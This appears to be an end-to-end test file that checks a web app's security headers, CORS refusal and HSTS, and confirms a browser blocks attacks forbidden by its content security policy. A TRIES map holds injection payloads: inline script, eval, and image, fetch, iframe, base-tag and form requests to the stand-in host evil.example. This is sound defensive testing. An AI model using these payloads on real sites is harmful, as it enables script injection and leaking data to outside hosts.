import { ADDRESSES } from "./fixtures/addresses";
import type { Guard } from "./fixtures/guard";
import { cookieOf, newPerson } from "./fixtures/people";
import { plantEverything } from "./fixtures/planted";
import { expect, test } from "./fixtures/test";

/* What browsers and caches are told, and that they do as they are told. */

/** Every address of the program, with the person's own ids. */
async function ownAddresses(): Promise<{ cookie: string; paths: string[] }> {
  const person = await newPerson();
  const { ids } = await plantEverything(person);
  const all = Object.values(ADDRESSES).map((addressesOf) => addressesOf(ids, ids.debtId));
  const paths = all.flatMap(({ missing = [], shown = [] }) => [...missing, ...shown]);
  return { cookie: await cookieOf(person), paths: [...new Set([...paths, "/nowhere"])] };
}

/** Asks for a page, or for what a file would be sent with, and reads the answer to its end: one left lying keeps its connection. */
async function ask(site: string, path: string, headers: Record<string, string>): Promise<Response> {
  const method = path.startsWith("/api/") ? "HEAD" : "GET";
  const answer = await fetch(site + path, { method, headers, redirect: "manual" });
  await answer.arrayBuffer();
  return answer;
}

/** Files that are the same for everybody and hold nothing of anybody. */
const FOR_ALL = /^\/(?:app\.webmanifest|robots\.txt|api\/cmaps\/)/;
/** Answers to whoever knows the secret in the address, wherever they ask from; or the same for everybody. */
const WITHOUT_SESSION = /^\/api\/(?:cmaps|calendar|mail|imports\/template)\//;
const EVERYWHERE = {
  "x-content-type-options": "nosniff",
  "referrer-policy": "same-origin",
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
  "x-frame-options": "DENY",
  "x-powered-by": null,
  "access-control-allow-origin": null,
  // Only over https, which the front proxy says.
  "strict-transport-security": null,
};
const PAGE_POLICY = [
  "default-src 'self'",
  "object-src 'none'",
  "base-uri 'none'",
  "form-action 'self'",
  "frame-ancestors 'none'",
];
const FILE_POLICY = "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";

test("every answer says what browsers and caches may do with it", async ({ site }) => {
  test.slow();
  const { cookie, paths } = await ownAddresses();
  const nonces = new Set<string>();
  let pages = 0;
  for (const path of paths) {
    const { headers } = await ask(site, path, { cookie });
    const policy = headers.get("content-security-policy") ?? "";
    for (const [name, value] of Object.entries(EVERYWHERE)) expect(headers.get(name), `${name} ${path}`).toBe(value);
    for (const power of ["camera", "microphone", "geolocation", "payment", "usb"])
      expect(headers.get("permissions-policy"), path).toContain(`${power}=()`);
    if (FOR_ALL.test(path)) continue;
    expect(headers.get("cache-control"), path).toMatch(/no-store/);
    expect(headers.get("cache-control"), path).not.toMatch(/s-maxage|public/);
    if (path.startsWith("/api/")) expect(policy, path).toBe(FILE_POLICY);
    else {
      expect(policy, path).toMatch(/script-src 'nonce-[\w+/=]{24}' 'strict-dynamic'; /);
      expect(policy, path).not.toContain("unsafe");
      for (const wall of PAGE_POLICY) expect(policy.split("; "), path).toContain(wall);
      nonces.add(policy);
      pages += 1;
    }
  }
  expect(nonces.size).toBe(pages);
  expect((await fetch(`${site}/dashboard/x.css`, { headers: { cookie } })).status).toBe(404);
});

test("no other site reads anything or has a file sent", async ({ site }) => {
  test.slow();
  const { cookie, paths } = await ownAddresses();
  const foreign = { cookie, origin: "https://evil.example", "sec-fetch-site": "cross-site" };
  for (const path of paths) {
    const { status, headers } = await ask(site, path, foreign);
    for (const [name] of headers) expect(name, path).not.toMatch(/^access-control-/);
    // 405: there is nothing to be read.
    if (path.startsWith("/api/") && !WITHOUT_SESSION.test(path)) expect([403, 405], path).toContain(status);
  }
});

test("over https a browser is told to stay there for a year, and files of the build have the same headers", async ({
  site,
}) => {
  const ofHttps = await fetch(`${site}/sign-in`, { headers: { "x-forwarded-proto": "https" } });
  const [, seconds = "0"] = /^max-age=(\d+)/.exec(ofHttps.headers.get("strict-transport-security") ?? "") ?? [];
  expect(Number(seconds)).toBeGreaterThanOrEqual(365 * 24 * 3600);
  const [, script = ""] = /src="(\/_next\/static\/[^"]+\.js)/.exec(await ofHttps.text()) ?? [];
  const { status, headers } = await fetch(site + script);
  expect(status).toBe(200);
  for (const [name, value] of Object.entries(EVERYWHERE)) expect(headers.get(name), name).toBe(value);
});

/* Each tries something that an intruder would, in a page as it is. */
const TRIES = {
  "script-src-elem":
    "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>x</script>' }))",
  "script-src-attr":
    "document.body.insertAdjacentHTML('beforeend', '<b onclick=x></b>'); document.body.lastElementChild.click()",
  "script-src": "try { eval('1') } catch {}",
  "style-src-elem": "document.body.insertAdjacentHTML('beforeend', '<style>b{}</style>')",
  "style-src-attr": "document.body.insertAdjacentHTML('beforeend', '<b style=color:red></b>')",
  "img-src": "new Image().src = 'https://evil.example/?what'",
  "connect-src": "fetch('https://evil.example/').catch(() => 0)",
  "frame-src": "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>')",
  "object-src": "document.body.insertAdjacentHTML('beforeend', '<object data=/robots.txt></object>')",
  "base-uri": "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example>')",
  "form-action":
    "document.body.insertAdjacentHTML('beforeend', '<form id=evil action=https://evil.example></form>'); document.getElementById('evil').submit()",
  "worker-src": "try { new Worker('data:text/javascript,1') } catch {}",
};

const POLICY_LINE = /^console: policy: ([\w-]+) stopped/;
const stopped = (guard: Guard) => guard.problems().flatMap((line) => POLICY_LINE.exec(line)?.[1] ?? []);

test("a browser stops whatever the policy forbids, and the guard of every test sees it", async ({ page, guard }) => {
  await page.goto("/sign-in");
  expect(guard.problems()).toEqual([]);
  for (const [directive, attempt] of Object.entries(TRIES)) {
    // In a task of its own: what a test evaluates itself has more rights than a page.
    await page.evaluate(`setTimeout(() => { ${attempt} })`);
    await expect.poll(() => stopped(guard), directive).toContain(directive);
  }
  guard.tolerate(/^console: |^another site: https:\/\/evil\.example/);
});
